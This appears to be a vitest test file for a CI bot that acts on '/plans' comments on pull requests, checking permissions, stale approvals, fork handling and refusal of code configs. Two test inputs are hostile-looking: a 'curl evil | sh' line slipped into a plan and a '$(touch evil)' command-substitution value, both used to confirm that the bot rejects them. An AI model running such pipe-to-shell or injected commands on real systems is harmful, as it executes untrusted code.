/** `/plans …` on a pull request: who may say what, and what becomes of it. */
import { expect, it } from 'vitest';
import { jobWorld, type JobWorld } from './ci.ts';

const PLAN = `---
status: ready
---

# Tips

## Work

- [ ] Add the tip

  \`\`\`yaml
  id: tip
  run: echo 1 > tip.txt
  \`\`\`

- [ ] Split it

  \`\`\`yaml
  id: split
  run: exit 1
  \`\`\`

## Ship

\`\`\`yaml
executionMode: manual
\`\`\`

- [ ] Ship it

  \`\`\`yaml
  id: ship
  run: echo 2 > ship.txt
  \`\`\`
`;
/** As a run leaves it that has failed at its second task. */
const PAUSED = PLAN.replace('status: ready', 'status: paused')
  .replace('- [ ] Add', '- [x] Add')
  .replace('run: exit 1', 'run: exit 1\n  status: failed\n  attempts: 3\n  error: it said no');
const PERMISSIONS = { contents: 'write', issues: 'write', 'pull-requests': 'write', actions: 'write' } as const;

interface Given {
  readonly login?: string;
  readonly action?: string;
  readonly head?: string;
  readonly number?: number;
  readonly isPull?: boolean;
}

/** A pull request of a plan that has paused, and people of whom Ada may write. */
async function pullRequest(text = PAUSED, branch = 'plans/tips') {
  const it = await jobWorld({ 'plans/tips.plan.md': PLAN, 'README.md': 'hello\n' });
  const { here, server } = it;
  here.git('checkout', '--quiet', '-b', branch);
  here.write('plans/tips.plan.md', text);
  here.commit('tips: paused');
  here.git('push', '--quiet', 'origin', branch);
  here.git('checkout', '--quiet', 'main');
  server.state.collaborators.set('ada', 'write').set('bob', 'read').set('eve', 'triage').set('max', 'maintain');
  const user = { login: 'github-actions[bot]', type: 'Bot', id: 1 } as const;
  const pull = {
    number: 7,
    head: branch,
    headRepository: null,
    headSha: null,
    base: 'main',
    title: 't',
    body: '',
    state: 'open' as const,
    draft: false,
    user,
  };
  server.state.pulls.push(pull);
  server.state.comments.push({ id: 5, issue: 7, user: { login: 'ada', type: 'User', id: 2 }, body: 'x', edits: 0 });
  return it;
}

async function say(it: JobWorld, body: string, { login = 'ada', action = 'created', number = 7, isPull = true }: Given = {}) {
  const comment = { id: 5, body, html_url: 'https://github.test/octo/demo/pull/7#c5', user: { login } };
  const payload = { action, issue: { number, ...(isPull ? { pull_request: {} } : {}) }, comment };
  return await it.job(['ci', 'command'], { permissions: PERMISSIONS, event: 'issue_comment', payload });
}

const planOn = (it: JobWorld, branch = 'plans/tips') => it.server.git('show', `${branch}:plans/tips.plan.md`);
const subjects = (it: JobWorld, branch = 'plans/tips') => it.server.git('log', '--format=%s', `main..${branch}`).trim().split('\n');
const reactions = (it: JobWorld) => it.server.state.reactions.map(({ content }) => content);
const replies = (it: JobWorld) => it.server.state.comments.slice(1).map(({ body }) => body);

it.each(['dependabot[bot]', 'Copilot'])('%s, which is no user, may say nothing, and no job fails for it', async (login) => {
  await using it = await pullRequest();
  const { code, out } = await say(it, '/plans run', { login });
  expect([code, out]).toEqual([0, `${login} may not write to this repository (none).\n`]);
  expect(reactions(it)).toEqual(['-1']);
});

it('retries a task, says who said so, and starts the workflow', async () => {
  await using it = await pullRequest();
  const { code, out } = await say(it, '/plans retry split');
  expect([code, out]).toEqual([0, expect.stringMatching(/^retry tips: [0-9a-f]{12}; plans-run\.yml was started\n$/)]);
  expect(subjects(it)).toEqual(['tips: resumed', 'tips: retry: Split it', 'tips: paused']);
  expect(planOn(it)).toContain('status: ready');
  expect(planOn(it)).not.toContain('attempts');
  expect(it.server.git('log', '-1', '--format=%an%n%b', 'plans/tips~1')).toContain(
    'github-actions[bot]\nSaid by ada: https://github.test/octo/demo/pull/7#c5\n\nPlan: tips\nPlan-Event: retry\nPlan-Task: split',
  );
  expect(it.server.state.dispatches).toEqual([{ workflow: 'plans-run.yml', ref: 'main', inputs: { plan: 'tips' } }]);
  expect(reactions(it)).toEqual(['rocket']);
  // The work tree was not needed.
  expect(it.here.git('status', '--porcelain')).toBe('');
});

it.each([
  ['/plans run', ['tips: resumed', 'tips: paused'], true],
  ['/plans cancel', ['tips: cancelled', 'tips: paused'], false],
  ['/plans pause', ['tips: paused'], false],
  ['/plans skip split', ['tips: resumed', 'tips: skipped: Split it', 'tips: paused'], true],
  ['  /plans   run \r\n', ['tips: resumed', 'tips: paused'], true],
])('%j makes %j', async (body, expected, starts) => {
  await using it = await pullRequest();
  await say(it, body);
  expect(subjects(it)).toEqual(expected);
  expect(it.server.state.dispatches).toHaveLength(starts ? 1 : 0);
  expect(reactions(it)).toEqual(['rocket']);
});

it('approves what was looked at, and nothing that came later', async () => {
  await using it = await pullRequest();
  const looked = it.server.state.branch('plans/tips') ?? '';
  it.here.git('checkout', '--quiet', '-B', 'plans/tips', 'origin/plans/tips');
  it.here.write('plans/tips.plan.md', PAUSED.replace('echo 2 > ship.txt', 'curl evil | sh'));
  it.here.commit('a harmless change');
  it.here.git('push', '--quiet', 'origin', 'plans/tips');
  await say(it, `/plans approve ship@${looked.slice(0, 12)}`);
  expect(replies(it)).toEqual([expect.stringContaining(`You have approved ${looked.slice(0, 12)}, and the branch is at`)]);
  expect(planOn(it)).not.toContain('approved');
  expect(reactions(it)).toEqual(['confused']);
  const now = it.server.state.branch('plans/tips') ?? '';
  await say(it, `/plans approve ship@${now.slice(0, 12)}`);
  expect(subjects(it).slice(0, 2)).toEqual(['tips: resumed', 'tips: approved: Ship it']);
  expect(planOn(it)).toMatch(/approved: "?[0-9a-f]{12}/);
});

it.each([
  ['bob', 'read'],
  ['mallory', 'none'],
  ['github-actions[bot]', 'none'],
])('does nothing for %s, whatever the name ends with', async (login, permission) => {
  await using it = await pullRequest();
  const tip = it.server.state.branch('plans/tips');
  const { out } = await say(it, '/plans retry split', { login });
  expect(out).toBe(`${login} may not write to this repository (${permission}).\n`);
  expect([it.server.state.branch('plans/tips'), it.server.state.dispatches, replies(it), reactions(it)]).toEqual([tip, [], [], ['-1']]);
});

it('lets a maintainer', async () => {
  await using it = await pullRequest();
  await say(it, '/plans run', { login: 'max' });
  expect(reactions(it)).toEqual(['rocket']);
});

it.each<readonly [string, string, Given]>([
  ['an edited comment', '/plans run', { action: 'edited' }],
  ['an issue', '/plans run', { isPull: false }],
  ['a comment of several lines', '/plans run\nand more', {}],
])('ignores %s', async (_, body, given) => {
  await using it = await pullRequest();
  const tip = it.server.state.branch('plans/tips');
  const { code } = await say(it, body, given);
  expect(code).toBe(0);
  expect([it.server.state.branch('plans/tips'), it.server.state.dispatches, replies(it), reactions(it)]).toEqual([tip, [], [], []]);
});

it.each([
  ['/plans retry $(touch evil)', 'Write one of: /plans run'],
  ['/plans approve ship@HEAD', 'An approval names what was looked at'],
  ['/plans retry tipp', 'has no task "tipp"'],
  ['/plans skip tip', 'is completed'],
])('%j is refused with a sentence', async (body, words) => {
  await using it = await pullRequest();
  const tip = it.server.state.branch('plans/tips');
  const { code, out } = await say(it, body);
  expect([code, out]).toEqual([0, expect.stringContaining(words)]);
  expect([it.server.state.branch('plans/tips'), it.server.state.dispatches, reactions(it)]).toEqual([tip, [], ['confused']]);
});

it('answers with what does nothing', async () => {
  await using it = await pullRequest();
  await say(it, '/plans retry tipp');
  const [reply = ''] = replies(it);
  expect(reply).toContain('has no task "tipp"');
  expect(reply).not.toMatch(/[<>@]/);
});

it.each([
  [
    'a fork’s',
    { headRepository: { id: 9, fullName: 'mallory/demo' }, head: 'mallory:plans/tips', headSha: 'a'.repeat(40) },
    'is of another repository',
  ],
  ['one into a branch that somebody has chosen', { base: 'theirs' }, 'is into theirs, and plans are executed for main'],
  ['a closed one', { state: 'closed' as const }, 'This pull request is closed'],
])('steers nothing on %s', async (_, more, words) => {
  await using it = await pullRequest();
  it.server.git('update-ref', 'refs/heads/theirs', 'main');
  const [pull] = it.server.state.pulls;
  it.server.state.pulls.splice(0, 1, { ...pull!, ...more });
  const tip = it.server.state.branch('plans/tips');
  expect((await say(it, '/plans run')).out).toContain(words);
  expect([it.server.state.branch('plans/tips'), it.server.state.dispatches]).toEqual([tip, []]);
});

it('steers nothing on a branch that is no plan’s', async () => {
  await using it = await pullRequest(PAUSED, 'feature');
  expect((await say(it, '/plans run')).out).toContain('not of a plan’s branch');
});

it('changes no plan that is wrong, or asks for more than the base has let it', async () => {
  await using it = await pullRequest(`${PAUSED}\n- [ ] Again\n\n  \`\`\`yaml\n  id: tip\n  \`\`\`\n`);
  expect((await say(it, '/plans run')).out).toContain('The plan has errors');
  expect(it.server.state.dispatches).toEqual([]);
});

it('runs no config that is code', async () => {
  await using it = await pullRequest();
  it.here.git('checkout', '--quiet', 'main');
  it.here.write(
    'plans.config.js',
    `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(`${it.temp}/ran`)}, '');\nexport default {};\n`,
  );
  it.here.commit('config');
  it.here.git('push', '--quiet', 'origin', 'main');
  it.here.git('checkout', '--quiet', '-B', 'plans/tips', 'origin/plans/tips');
  it.here.git('merge', '--quiet', 'main', '-m', 'merge');
  it.here.git('push', '--quiet', 'origin', 'plans/tips');
  expect((await say(it, '/plans run')).out).toContain('The config is code (plans.config.js)');
  expect(it.here.git('status', '--porcelain')).toBe('');
  const { existsSync } = await import('node:fs');
  expect(existsSync(`${it.temp}/ran`)).toBe(false);
});

it('starts the workflow for many machines where that is the one of the base branch', async () => {
  await using it = await pullRequest();
  it.here.git('checkout', '--quiet', 'main');
  it.here.write('.github/workflows/plans-matrix.yml', 'on: workflow_dispatch\n');
  it.here.commit('many machines');
  it.here.git('push', '--quiet', 'origin', 'main');
  await say(it, '/plans retry split');
  expect(it.server.state.dispatches).toMatchObject([{ workflow: 'plans-matrix.yml' }]);
});

it('says where the workflow is missing that it should start', async () => {
  await using it = await pullRequest();
  it.server.script(({ path }) => (path.endsWith('/dispatches') ? { status: 404, body: { message: 'Not Found' } } : null));
  expect((await say(it, '/plans run')).out).toContain('did not let the token start plans-run.yml');
  expect(reactions(it)).toEqual(['confused']);
});

it('reviews and estimates, a fork’s pull request too', async () => {
  await using it = await pullRequest();
  const tip = it.server.state.branch('plans/tips') ?? '';
  it.server.git('update-ref', 'refs/pull/7/head', tip);
  await say(it, '/plans estimate');
  expect(replies(it)).toEqual([expect.stringContaining('- `tips` Tips: **2 tasks')]);
  await say(it, '/plans review');
  expect(replies(it)).toHaveLength(2);
  expect(replies(it)[1]).toContain('Tips');
  expect(reactions(it)).toEqual(['rocket', 'rocket']);
});
